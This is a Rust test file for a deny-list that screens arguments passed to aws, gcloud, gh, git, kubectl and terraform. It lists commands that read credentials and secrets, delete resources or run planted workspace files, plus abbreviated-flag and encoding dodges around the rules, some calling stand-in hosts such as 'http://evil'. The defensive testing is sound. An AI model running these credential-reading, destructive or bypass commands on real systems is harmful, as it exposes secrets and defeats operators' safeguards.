use proptest::prelude::*;

use super::*;

fn rules(deny_args: &[&str], deny_verbose: &[&str]) -> ArgumentRules {
    let owned = |list: &[&str]| list.iter().map(ToString::to_string).collect::<Vec<_>>();
    ArgumentRules::compile(&owned(deny_args), &owned(deny_verbose)).unwrap()
}

#[test]
fn a_pattern_is_tried_from_the_start_of_each_argument() {
    let rules = rules(&[r"auth\s+", "ssh-key"], &["--verbose", "-v"]);
    let denied = |arguments: &[&str]| rules.check(arguments).map(|denied| (denied.which, denied.at));
    assert_eq!(denied(&["auth", "login"]), Some((ArgumentList::DenyArgs, 1)));
    assert_eq!(denied(&["-R", "a/b", "ssh-key", "add"]), Some((ArgumentList::DenyArgs, 3)));
    assert_eq!(denied(&["issue", "list", "--verbose"]), Some((ArgumentList::DenyVerbose, 3)));
    assert_eq!(denied(&["issue", "list"]), None);
    assert_eq!(denied(&["issue", "create", "--body", "the auth flow is broken"]), None, "blanks of its own");
    assert_eq!(denied(&["issue", "create", "--body", "auth flow"]), None, "it begins so, with its own blank");
    assert_eq!(denied(&["issue", "create", "--body", "about my-ssh-key"]), None, "not at its start");
    assert_eq!(denied(&["auth"]), None, "the pattern wants something after it");
    assert_eq!(denied(&[]), None);
}

#[test]
fn what_refused_is_told_as_it_is_written() {
    let denied = rules(&["a|b"], &[]).check(&["x", "b"]).unwrap();
    assert_eq!(denied, DeniedArguments { which: ArgumentList::DenyArgs, pattern: "a|b".to_owned(), at: 2 });
}

#[test]
fn a_pattern_that_is_none_refuses_to_load() {
    for pattern in ["(", "a)(b", "[", "", r"\p{Nothing}", "(?:a{1000}){1000}{1000}"] {
        let error = ArgumentRules::compile(&["fine".to_owned(), pattern.to_owned()], &[]).unwrap_err();
        assert!(error.to_string().starts_with("pattern 2 of `deny_args`"), "{error}");
    }
}

#[test]
fn presets_load_and_refuse_what_they_should() {
    let expected: &[(&str, &[&str], &[&str])] = &[
        (
            "aws",
            &[
                "configure list",
                "iam create-access-key",
                "sts assume-role --role-arn x",
                "secretsmanager get-secret-value --secret-id x",
                "ssm get-parameter --name x --with-decryption",
                "s3 ls --debug",
                "s3 ls --endpoint-url http://evil",
                "ecr get-login-password",
                "--profile other s3 ls",
            ],
            &[
                "s3 ls",
                "ec2 describe-instances",
                "iam list-users",
                "ssm get-parameter --name x",
                "sts get-caller-identity",
            ],
        ),
        (
            "gcloud",
            &[
                "auth print-access-token",
                "config set project x",
                "beta auth login",
                "iam service-accounts keys create k",
                "compute ssh vm",
                "secrets versions access latest",
                "projects list --log-http",
                "projects list --impersonate-service-account=x",
            ],
            &[
                "projects list",
                "compute instances list",
                "iam service-accounts list",
                "run services describe x",
            ],
        ),
        (
            "gh",
            &[
                "auth token",
                "auth status",
                "ssh-key add k",
                "secret set A",
                "repo delete x",
                "alias set x y",
                "extension install x",
                "api -X POST /user/keys",
                "pr list -v",
            ],
            &[
                "pr list",
                "issue create --title x --body y",
                "api repos/a/b",
                "repo view",
                "run view 1",
                "release view v1",
            ],
        ),
        (
            "git",
            &[
                "-c core.pager=x log",
                "-ccore.sshCommand=x fetch",
                "config --get credential.helper",
                "credential fill",
                "clone --upload-pack=x y",
                "clone ext::sh",
                "push --force origin main",
                "push origin +main",
                "submodule foreach x",
            ],
            &["clone https://example.com/a.git", "fetch origin", "pull", "push origin topic", "log -1"],
        ),
        (
            "kubectl",
            &[
                "exec -it pod -- sh",
                "-n x exec pod -- sh",
                "get secret db -o yaml",
                "get secrets",
                "get pods,secrets",
                "config view --raw",
                "get pods --token=x",
                "get pods -v=9",
                "create token x",
                "delete namespace prod",
                "delete pods --all",
                "get --raw /api",
            ],
            &[
                "get pods",
                "describe deployment web",
                "logs web",
                "rollout status deploy/web",
                "-n x get pods",
                "top pods",
            ],
        ),
        (
            "terraform",
            &[
                "apply -auto-approve",
                "destroy",
                "output -json",
                "state pull",
                "login",
                "show",
                "-chdir=/x plan",
                "console",
            ],
            &["plan", "validate", "init", "fmt -check", "state list", "-chdir=infra plan"],
        ),
    ];
    let named: Vec<_> = PRESETS.iter().map(|preset| preset.name).collect();
    assert_eq!(named, expected.iter().map(|(name, ..)| *name).collect::<Vec<_>>());
    for (name, denied, allowed) in expected {
        let preset = preset(name).unwrap();
        let rules = rules(preset.deny_args, preset.deny_verbose);
        let split = |line: &str| line.split(' ').map(ToOwned::to_owned).collect::<Vec<_>>();
        for line in *denied {
            assert!(rules.check(&split(line)).is_some(), "{name} {line}");
        }
        for line in *allowed {
            assert_eq!(rules.check(&split(line)), None, "{name} {line}");
        }
    }
}

#[test]
fn no_preset_names_a_helper_that_runs_what_it_is_told_to() {
    let runs_anything = [
        "awk", "bash", "busybox", "dash", "deno", "env", "find", "gawk", "lua", "mawk", "nawk", "node",
        "perl", "php", "pypy", "python", "ruby", "sed", "sh", "ssh", "tclsh", "xargs", "zsh",
    ];
    let mut exceptions = Vec::new();
    for preset in PRESETS {
        for helper in preset.helpers {
            // `python3.12` is Python, too.
            let name = helper.rsplit('/').next().unwrap();
            let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-');
            if runs_anything.contains(&name) {
                exceptions.push((preset.name, *helper));
            }
        }
        let settings = preset.settings("/usr/bin/x".to_owned());
        assert_eq!(settings.helpers, preset.helpers, "{}", preset.name);
    }
    let of_gcloud = ["python3", "../platform/bundledpythonunix/bin/python3"];
    assert_eq!(exceptions, of_gcloud.map(|python| ("gcloud", python)));
}

/// Besides the sandbox, these rules keep the Python of `gcloud` from a planted file. Found by reading gcloud 528.
#[test]
fn refuses_the_commands_of_gcloud_that_run_a_file_of_the_workspace() {
    let gcloud = preset("gcloud").unwrap();
    let rules = rules(gcloud.deny_args, gcloud.deny_verbose);
    let denied = |line: &str| rules.check(&line.split(' ').collect::<Vec<_>>()).is_some();
    for line in [
        "ai-platform jobs submit training j --package-path=trainer --module-name=trainer.task",
        "ai-platform --quiet jobs --project x submit training j --package-path trainer",
        "ml-engine jobs submit training j --package-path trainer",
        "ai-platform local train --package-path trainer --module-name trainer.task",
        "beta ai-platform local predict --model-dir . --framework scikit-learn",
        "meta test --exec-file=evil.sh",
        "alpha meta test --prompt-completer evil:Completer",
        "meta cache completers run evil:Completer instance",
        "meta debug",
        "alpha interactive",
        "scc remediation-intents semi-autonomous-execute",
        "alpha scc iac-remediation apply",
        "app deploy app.yaml --staging-command python3",
        "app deploy app.yaml --staging-command=/usr/bin/python3",
    ] {
        assert!(denied(line), "{line}");
    }
    for line in [
        "ai-platform jobs list",
        "ai-platform models describe m",
        "ai models list",
        "scc findings list organizations/1",
        "app services list",
        "compute instances add-metadata vm --metadata a=b",
        "sql instances patch db --authorized-networks=10.0.0.0/8",
    ] {
        assert!(!denied(line), "{line}");
    }
}

#[test]
fn presets_refuse_what_is_dodged_by_options() {
    for (name, line) in [
        ("aws", "s3 ls --deb"),
        ("aws", "s3 ls --endpoint-ur http://evil"),
        ("aws", "iam --region x create-access-key"),
        ("aws", "sts --output json get-session-token"),
        ("aws", "secretsmanager --no-paginate --region x get-secret-value"),
        ("gcloud", "compute --project x ssh vm"),
        ("gcloud", "secrets --quiet versions access 1"),
        ("gcloud", "secrets --quiet versions --project x access 1"),
        ("gcloud", "iam --project=x service-accounts keys create k"),
        ("gcloud", "projects list --log-ht"),
        ("gcloud", "projects list --flags-fil=x"),
        ("gcloud", "projects list --credential-file-override=planted.json"),
        ("gh", "repo --yes delete o/r"),
        ("gh", "cs -R o/r ssh"),
        ("gh", "api repos/o/r/actions/%73ecrets"),
        ("git", "fetch --upload-pa=./x"),
        ("git", "-C docs status"),
        ("git", "-Cdocs status"),
        ("git", "--git-dir docs status"),
        ("git", "--git-dir=docs status"),
        ("git", "--work-tree=/ status"),
        ("git", "--config-env=http.proxy=LANG fetch"),
        ("git", "clone --conf http.sslVerify=false https://example.com/a"),
        ("git", "clone --template=./planted https://example.com/a"),
        ("git", "clone --recurse-submodules https://example.com/a"),
        ("git", "var -l"),
        ("kubectl", "--kuberc=./planted get pods"),
        ("git", "rebase --exe ./x"),
        ("git", "submodule --quiet foreach env"),
        ("kubectl", "config -n x view --raw"),
        ("kubectl", "get -o yaml secrets"),
        ("kubectl", "get pod/x secret/y -o yaml"),
        ("kubectl", "-shttps://evil.example get pods"),
        ("kubectl", "get pods -v=+9"),
        ("kubectl", "create configmap x --from-file=k=/x --dry-run=client"),
    ] {
        let preset = preset(name).unwrap();
        let words: Vec<&str> = line.split(' ').collect();
        assert!(rules(preset.deny_args, preset.deny_verbose).check(&words).is_some(), "{name} {line}");
    }
    for (name, line) in [
        ("aws", "ec2 describe-instances --region eu-west-1 --output json"),
        ("gcloud", "compute instances list --project x --format=json"),
        ("gh", "pr list --repo o/r --limit 5 --json number,title"),
        ("git", "fetch --prune origin main"),
        ("git", "rebase --continue"),
        ("git", "commit --amend --no-edit"),
        ("kubectl", "get pods -n web -o wide -v=3"),
    ] {
        let preset = preset(name).unwrap();
        let words: Vec<&str> = line.split(' ').collect();
        assert_eq!(rules(preset.deny_args, preset.deny_verbose).check(&words), None, "{name} {line}");
    }
}

proptest! {
    #[test]
    fn any_arguments_are_answered_and_more_before_them_hide_nothing(
        before in prop::collection::vec(any::<String>(), 0..4),
        after in prop::collection::vec(any::<String>(), 0..4),
    ) {
        let rules = rules(&[r"auth\s"], &[]);
        let mut arguments = before;
        arguments.extend(["auth".to_owned(), "login".to_owned()]);
        arguments.extend(after);
        prop_assert!(rules.check(&arguments).is_some());
    }
}
